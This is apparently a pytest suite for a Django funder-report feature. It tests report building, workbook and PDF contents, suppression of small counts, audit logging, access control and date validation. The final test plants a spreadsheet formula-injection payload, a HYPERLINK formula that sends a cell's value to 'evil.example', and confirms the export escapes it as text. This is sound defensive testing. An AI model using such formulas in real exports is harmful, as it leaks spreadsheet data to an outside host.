"""Funder reports (/cruscotto/rapporti/): the coordinator requests one, a background task builds
it section by section, its workbook and PDF are kept and downloaded later. Numbers count only
the people who consent to statistics; small counts are "<5"."""

from dataclasses import replace
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from auditlog.models import LogEntry
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import formats, translation
from django.utils.html import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from ponte.core.suppression import SUPPRESSED
from ponte.core.tests.helpers import CAVALESE, italian, page_text
from ponte.pathways.models import Consent, Level, LevelChange, Person
from ponte.projects.models import SubProject
from ponte.reports import services
from ponte.reports.indicators import INDICATORS
from ponte.reports.models import FunderReport
from ponte.reports.tests.test_indicators_dataset import build_dataset

URL = "/cruscotto/rapporti/"
YEAR_2025 = {"start": "2025-01-01", "end": "2025-12-31"}


@pytest.fixture
def data(municipalities, org_a, org_b, company, worker_a):
    dataset = build_dataset(
        municipalities=municipalities, org_a=org_a, org_b=org_b, company=company, user=worker_a
    )
    # Six more people at level 3 who consent to statistics (a count shown as it is) and two who
    # do not (never counted in a funder report).
    level = Level.objects.get(number=3)
    for n in range(8):
        person = Person.objects.create(
            first_name=f"Persona{n}",
            last_name="Prova",
            basis=Person.Basis.UNCERTIFIED,
            municipality=municipalities[CAVALESE],
            level=level,
            organisation=org_a,
            status=Person.Status.OPEN,
            opened_on=date(2025, 2, 1),
        )
        LevelChange.objects.create(
            person=person,
            to_level=level,
            cause=LevelChange.Cause.INTAKE,
            changed_on=date(2025, 2, 1),
        )
        if n < 6:
            Consent.objects.create(
                person=person,
                purpose=Consent.Purpose.STATISTICS,
                given_on=date(2025, 2, 1),
                recorded_by=worker_a,
                document_reference="Prot. 9",
            )
    return dataset


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def request_report(client, user, **params):
    client.force_login(user)
    return client.post(URL, {**YEAR_2025, **params})


@pytest.fixture
def report(client, coordinator, data, media) -> FunderReport:
    response = request_report(client, coordinator)
    assert response.status_code == 302
    return FunderReport.objects.get()


@pytest.fixture
def ready(coordinator, media) -> FunderReport:
    """A report already built (its files are not read by the tests that use it)."""
    report = FunderReport.objects.create(
        requested_by=coordinator,
        start=date(2025, 1, 1),
        end=date(2025, 12, 31),
        status=FunderReport.Status.DONE,
        progress=100,
    )
    report.xlsx.save("rapporto.xlsx", ContentFile(b"xlsx"), save=False)
    report.pdf.save("rapporto.pdf", ContentFile(b"pdf"), save=True)
    return report


def rows_of(sheet) -> dict[str, list]:
    """The rows of a section's table by their label (the header is on row 6)."""
    return {
        str(row[0].value): row[1:] for row in sheet.iter_rows(min_row=7) if row[0].value is not None
    }


# The build -----------------------------------------------------------------------------------


def test_the_report_is_built_at_once_with_its_progress_saved_after_each_section(
    client, coordinator, data, media, monkeypatch
):
    seen: list[int] = []
    real = services._set_progress

    def spy(report, progress, **fields):
        seen.append(progress)
        real(report, progress, **fields)

    monkeypatch.setattr(services, "_set_progress", spy)
    response = request_report(client, coordinator)
    report = FunderReport.objects.get()
    assert response["Location"] == f"{URL}{report.code}/"
    # Running at 0, one step per section, the workbook, then done at 100.
    assert len(seen) == len(INDICATORS) + 3
    assert seen == sorted(seen)
    assert seen[0] == 0 and seen[-1] == 100
    assert report.status == FunderReport.Status.DONE
    assert report.progress == 100
    assert report.finished_at is not None
    assert report.xlsx.name.startswith(f"reports/{report.code}/")
    assert report.pdf.name.startswith(f"reports/{report.code}/")
    assert client.get(f"{URL}{report.code}/").status_code == 200


def test_the_request_records_the_scope(client, coordinator, data, media):
    laboratorio = data.subprojects["laboratorio"]
    request_report(client, coordinator, subprojects=[laboratorio.code])
    report = FunderReport.objects.get()
    assert (report.start, report.end) == (date(2025, 1, 1), date(2025, 12, 31))
    assert list(report.subprojects.all()) == [laboratorio]
    assert report.valley is None
    assert report.requested_by == coordinator


# The workbook --------------------------------------------------------------------------------


def workbook(client, report):
    response = client.get(f"{URL}{report.code}/xlsx/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(BytesIO(b"".join(response.streaming_content)))


def test_the_workbook_has_a_cover_one_sheet_per_section_and_numbers_counted_by_hand(client, report):
    book = workbook(client, report)
    assert len(book.sheetnames) == 1 + len(INDICATORS)
    assert book.sheetnames[0] == italian("Cover")
    cover = book.worksheets[0]
    assert cover["A1"].value == italian("Report for the funders")
    assert cover["B4"].value.date() == date(2025, 1, 1)
    assert cover["B4"].number_format == "DD/MM/YYYY"
    assert cover["B5"].value.date() == date(2025, 12, 31)
    for sheet, item in zip(book.worksheets[1:], INDICATORS, strict=True):
        with translation.override("it"):
            assert sheet["A1"].value == str(item.title)
        assert sheet["A6"].font.bold

    people = rows_of(book.worksheets[1])
    level_3 = next(cells for label, cells in people.items() if label.startswith("3"))
    # The six new people who consent; anna (level 2 at the end of 2025) and the two who do
    # not consent are not at level 3.
    assert level_3[0].value == 6
    assert level_3[0].data_type == "n"
    assert level_3[0].number_format == "#,##0"
    level_2 = next(cells for label, cells in people.items() if label.startswith("2"))
    assert level_2[0].value == SUPPRESSED  # anna alone
    assert level_2[0].data_type == "s"

    budget_index = 1 + [item.key for item in INDICATORS].index("budget")
    budget = rows_of(book.worksheets[budget_index])
    personale = budget["Laboratorio · Personale"]
    assert [cell.value for cell in personale[:2]] == [1000, 500]
    assert all(cell.data_type == "n" for cell in personale[:2])
    assert personale[0].number_format == "#,##0.00"
    assert budget["Laboratorio · Vendite"][3].value == Decimal("400") or (
        budget["Laboratorio · Vendite"][3].value == 400
    )


def test_a_download_is_recorded_in_the_audit_trail(client, coordinator, ready):
    client.force_login(coordinator)
    response = client.get(f"{URL}{ready.code}/pdf/")
    assert response.status_code == 200
    entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS, object_pk=str(ready.pk)).get()
    assert entry.actor == coordinator


# The PDF -------------------------------------------------------------------------------------


def test_the_pdf_has_the_sections_by_dimension_and_the_figures(client, report):
    response = client.get(f"{URL}{report.code}/pdf/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(
        page.extract_text()
        for page in PdfReader(BytesIO(b"".join(response.streaming_content))).pages
    )
    text = " ".join(text.split())
    assert italian("Report for the funders") in text
    with translation.override("it"):  # "1 gennaio 2025", as Django writes Italian dates
        for day in (date(2025, 1, 1), date(2025, 12, 31)):
            assert formats.date_format(day, "j F Y") in text
    for dimension in (
        "Empowerment of citizens",
        "Inclusive communities",
        "Generative welfare ecosystem",
    ):
        assert italian(dimension) in text
    assert "1.000,00" in text and "500,00" in text  # Laboratorio · Personale
    assert SUPPRESSED in text
    assert "Persona0" not in text and "Anna" not in text  # no person, ever


# Failures and bad input ----------------------------------------------------------------------


def test_a_failing_section_marks_the_report_failed_with_a_message(
    client, coordinator, data, media, monkeypatch, caplog
):
    def broken(scope):
        raise RuntimeError("Anna Prova")

    # The third section raises, after two that worked.
    monkeypatch.setattr(
        services, "INDICATORS", [*INDICATORS[:2], replace(INDICATORS[2], compute=broken)]
    )
    response = request_report(client, coordinator)
    report = FunderReport.objects.get()
    assert response.status_code == 302
    assert report.status == FunderReport.Status.FAILED
    assert "RuntimeError" in report.message
    assert not report.xlsx and not report.pdf
    assert report.code in caplog.text
    assert "Anna" not in caplog.text  # the log names the kind of error, not its text
    page = client.get(f"{URL}{report.code}/")
    assert page.status_code == 200
    assert escape(report.message) in page.content.decode()
    assert client.get(f"{URL}{report.code}/pdf/").status_code == 404


def test_an_end_before_the_start_is_a_clear_error_and_creates_nothing(client, coordinator, media):
    response = request_report(client, coordinator, start="2025-12-31", end="2025-01-01")
    assert response.status_code == 400
    assert italian("The end of the period (%(end)s) comes before its start (%(start)s).") % {
        "end": "01/01/2025",
        "start": "31/12/2025",
    } in page_text(response)
    assert not FunderReport.objects.exists()


def test_a_date_that_is_not_a_date_creates_nothing(client, coordinator, media):
    response = request_report(client, coordinator, start="31 febbraio")
    assert response.status_code == 400
    assert not FunderReport.objects.exists()


def test_the_service_refuses_an_end_before_the_start(coordinator, media):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        services.funder_report_request(
            user=coordinator, start=date(2025, 2, 1), end=date(2025, 1, 1)
        )
    assert not FunderReport.objects.exists()


def test_a_report_of_one_day_counts_the_whole_month(coordinator, media):
    """Issue 15 (differencing): a report of 17/11/2025 and one of 17–18/11/2025 would give one
    day's events by difference; both count the whole of November."""
    one_day = services.funder_report_request(
        user=coordinator, start=date(2025, 11, 17), end=date(2025, 11, 17)
    )
    two_days = services.funder_report_request(
        user=coordinator, start=date(2025, 11, 17), end=date(2025, 11, 18)
    )
    for report in (one_day, two_days):
        assert (report.start, report.end) == (date(2025, 11, 1), date(2025, 11, 30))


# Access --------------------------------------------------------------------------------------


def test_anonymous_visitors_are_sent_to_sign_in(client, ready):
    report = ready
    for address in (
        URL,
        f"{URL}{report.code}/",
        f"{URL}{report.code}/xlsx/",
        f"{URL}{report.code}/pdf/",
    ):
        response = client.get(address)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_other_members_do_not_know_a_report_exists(client, ready, contact_a, worker_a):
    report = ready
    for user in (contact_a, worker_a):
        client.force_login(user)
        for suffix in ("", "avanzamento/", "xlsx/", "pdf/"):
            assert client.get(f"{URL}{report.code}/{suffix}").status_code == 404


def test_other_members_may_not_produce_reports(client, contact_a, nobody, media):
    for user in (contact_a, nobody):
        client.force_login(user)
        assert client.get(URL).status_code == 403
        assert client.post(URL, YEAR_2025).status_code == 403
    assert not FunderReport.objects.exists()


def test_an_unknown_code_or_format_is_not_found(client, ready, coordinator):
    report = ready
    client.force_login(coordinator)
    assert client.get(f"{URL}ZZZZZZZZ/").status_code == 404
    assert client.get(f"{URL}{report.code}/csv/").status_code == 404


def test_a_report_not_yet_ready_has_nothing_to_download(client, coordinator, media):
    report = FunderReport.objects.create(
        requested_by=coordinator, start=date(2025, 1, 1), end=date(2025, 12, 31)
    )
    client.force_login(coordinator)
    assert client.get(f"{URL}{report.code}/xlsx/").status_code == 404
    page = client.get(f"{URL}{report.code}/").content.decode()
    assert '<progress id="funder-progress-bar"' in page
    assert 'hx-trigger="every 1s"' in page


# Pages ---------------------------------------------------------------------------------------


def test_the_progress_stops_polling_when_the_report_is_ready(client, ready, coordinator):
    report = ready
    client.force_login(coordinator)
    response = client.get(f"{URL}{report.code}/avanzamento/", HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert response["HX-Refresh"] == "true"
    assert "hx-get" not in response.content.decode()


def test_the_dashboard_filter_fills_in_the_form(client, coordinator, data):
    client.force_login(coordinator)
    html = client.get(URL, {**YEAR_2025, "subproject": data.subprojects["laboratorio"].code})
    content = html.content.decode()
    assert 'value="2025-01-01"' in content
    assert f'value="{data.subprojects["laboratorio"].code}" selected' in content


def _list_queries(client) -> int:
    with CaptureQueriesContext(connection) as context:
        assert client.get(URL).status_code == 200
    return len(context.captured_queries)


def test_the_number_of_queries_of_the_list_does_not_grow_with_the_reports(
    client, coordinator, data, media
):
    client.force_login(coordinator)
    laboratorio = data.subprojects["laboratorio"]

    def add(count: int) -> None:
        for _n in range(count):
            report = FunderReport.objects.create(
                requested_by=coordinator, start=date(2025, 1, 1), end=date(2025, 12, 31)
            )
            report.subprojects.set([laboratorio])

    add(2)
    client.get(URL)
    few = _list_queries(client)
    add(5)
    assert _list_queries(client) == few


def test_a_title_that_looks_like_a_formula_comes_out_as_text(client, coordinator, data, media):
    """ponte/core/exports.py: a sub-project's title is what a member typed."""
    formula = '=HYPERLINK("http://evil.example/?"&B3,"Laboratorio")'
    SubProject.objects.filter(title="Laboratorio").update(title=formula)
    assert request_report(client, coordinator).status_code == 302
    book = workbook(client, FunderReport.objects.get())
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert any(text.startswith("'" + formula) for text in texts)
